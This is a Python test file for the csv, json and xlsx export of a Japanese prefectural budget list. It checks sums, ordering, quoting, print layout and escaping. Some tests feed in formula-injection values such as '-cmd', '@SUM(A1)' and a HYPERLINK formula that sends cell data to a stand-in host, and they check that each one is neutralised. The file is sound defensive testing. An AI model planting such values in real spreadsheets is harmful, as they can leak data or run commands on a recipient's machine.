"""The list as csv, json and xlsx, read back as a stranger would read it."""

import csv
import io
import json
from collections import Counter

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from workflow import documents
from workflow.documents.queries import Report
from workflow.documents.rendering import draft, table
from workflow.values.actor import Title
from workflow.values.errors import NotFound
from workflow.values.vocabulary import Stage

HEADER = (
    "no,department,section,field,category,name,amount_kyen,funding,summary,state,verdict,number"
)
IN_ORDER = ["総務部", "あきた未来創造部", "健康福祉部", "健康福祉部", "産業労働部", "建設部"]
FORMULAS = ["=1+1", "+81", "-cmd", "@SUM(A1)", "＝1", "\t=1", " =1"]


def csv_rows(report: Report) -> list[dict[str, str]]:
    text = draft(report, "csv").written().content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def sheet(report: Report) -> Worksheet:
    return load_workbook(io.BytesIO(draft(report, "xlsx").written().content)).worksheets[0]


def test_the_csv_has_the_columns_that_scripts_depend_on(the_paper):
    content = draft(the_paper, "csv").written().content

    assert content.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    assert content.count(b"\r\n") == content.count(b"\n") == 7


def test_the_csv_gives_the_papers_sums_and_order(the_paper):
    rows = csv_rows(the_paper)
    by_field: Counter[str] = Counter()
    for row in rows:
        by_field[row["field"]] += int(row["amount_kyen"])

    assert [row["no"] for row in rows] == list("123456")
    assert [row["department"] for row in rows] == IN_ORDER
    assert by_field == {"行政": 81741, "くらし": 25128, "産業": 17696}
    assert by_field.total() == 124565
    assert rows[0]["state"] == "提出済"


def test_the_json_has_the_csvs_keys_and_integers_for_amounts(the_paper):
    rows = json.loads(draft(the_paper, "json").written().content)

    assert [list(row) for row in rows] == [HEADER.split(",")] * 6
    assert sum(row["amount_kyen"] for row in rows) == 124565
    assert [row["no"] for row in rows] == [1, 2, 3, 4, 5, 6]


def test_joint_departments_are_printed_after_their_lead(a_row, a_report):
    joint = a_row(joint_departments=(Title("企画振興部", ""),))

    assert csv_rows(a_report(joint))[0]["department"] == "総務部・企画振興部"


def test_an_amount_not_entered_yet_is_empty_and_null(a_row, a_report):
    report = a_report(a_row(amount_kyen=None, field=None, category=None, section=""))

    assert csv_rows(report)[0]["amount_kyen"] == ""
    assert json.loads(draft(report, "json").written().content)[0]["amount_kyen"] is None
    assert sheet(report)["G4"].value is None


def test_commas_quotes_and_line_ends_come_back_as_they_were(a_row, a_report):
    summary = '改修、"更新"\n配布,郵送 𠮟る①㈱'
    report = a_report(a_row(summary=summary))

    assert csv_rows(report)[0]["summary"] == summary
    assert json.loads(draft(report, "json").written().content)[0]["summary"] == summary
    assert sheet(report)["I4"].value == summary


@pytest.mark.parametrize("typed", FORMULAS)
def test_no_cell_is_a_formula(typed, a_row, a_report):
    report = a_report(a_row(name=typed, section=typed, funding=typed))
    cells = [cell for row in sheet(report).iter_rows() for cell in row]

    assert csv_rows(report)[0]["name"] == f"'{typed}"
    assert (sheet(report)["F4"].value, sheet(report)["F4"].data_type) == (typed, "s")
    assert all(cell.data_type != "f" for cell in cells)
    assert json.loads(draft(report, "json").written().content)[0]["name"] == typed


def test_a_negative_amount_stays_a_number(a_row, a_report):
    report = a_report(a_row(amount_kyen=-1395), a_row(2, amount_kyen=0))

    assert [row["amount_kyen"] for row in csv_rows(report)] == ["-1395", "0"]
    assert sheet(report)["G4"].value == -1395
    assert sheet(report)["G4"].number_format == "#,##0;△#,##0"


def test_the_workbook_is_the_paper_and_ready_to_print(the_paper):
    page = sheet(the_paper)

    assert page["A1"].value == "令和3年度9月補正予算（デジタル化関連事業）検討予定一覧"
    assert page["K1"].value == "資料1-6"
    assert page["K1"].alignment.horizontal == "right"
    assert (page.freeze_panes, page.print_title_rows) == ("A4", "$1:$3")
    assert (page.page_setup.orientation, page.page_setup.paperSize) == ("landscape", 9)
    # One page wide is what a file means that does not say how wide.
    assert (page.page_setup.fitToWidth or 1, page.page_setup.fitToHeight) == (1, 0)
    assert page.sheet_properties.pageSetUpPr.fitToPage is True


def test_the_workbook_sums_departments_of_several_items_and_all(the_paper):
    rows = [(row[0].value, row[6].value) for row in sheet(the_paper).iter_rows(min_row=4)]

    assert rows == [
        (1, 60016), (2, 3725), (3, 9570), (4, 11833), ("健康福祉部 小計", 21403),
        (5, 17696), (6, 21725), ("計", 124565),
    ]  # fmt: skip


def test_results_add_the_verdict_with_findings_and_conditions(a_row, a_report):
    judged = a_row(verdict_code="conditional", verdict=Title("条件付き妥当", ""),
                   findings="必要である。", conditions="共同利用を検討すること")  # fmt: skip
    page = sheet(a_report(judged, stage=Stage.EVALUATED))

    assert page["A1"].value.endswith("評価結果一覧")
    assert [page["J3"].value, page["K3"].value] == ["評価区分", "所見・条件"]
    assert page["J4"].value == "条件付き妥当"
    assert page["K4"].value == "必要である。\n【条件】共同利用を検討すること"


@pytest.mark.parametrize("form", documents.FORMS)
def test_a_list_without_items_is_still_a_file(form, a_report):
    assert draft(a_report(), form).written().content


def test_without_items_the_tables_say_so(a_report):
    assert csv_rows(a_report()) == []
    assert json.loads(draft(a_report(), "json").written().content) == []
    assert sheet(a_report())["A4"].value == "該当する案件はありません。"
    assert sheet(a_report())["G5"].value == 0


@pytest.mark.parametrize("form", documents.FORMS)
def test_the_same_list_is_the_same_bytes(form, the_paper):
    assert draft(the_paper, form).written().content == draft(the_paper, form).written().content


def test_a_file_is_named_after_its_paper(the_paper):
    document = draft(the_paper, "xlsx").written()

    assert document.name == "令和3年度9月補正予算（デジタル化関連事業）検討予定一覧.xlsx"
    assert document.media_type.endswith("spreadsheetml.sheet")


def test_another_form_is_refused(the_paper):
    with pytest.raises(NotFound):
        draft(the_paper, "docx").written()


def test_a_heading_that_an_office_words_itself_is_no_formula_in_csv():
    content = table(['=HYPERLINK("http://e.x/"&A2)（千円）', "name"], [("@SUM(A1)", 1)])

    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == [
        ['\'=HYPERLINK("http://e.x/"&A2)（千円）', "name"],
        ["'@SUM(A1)", "1"],
    ]
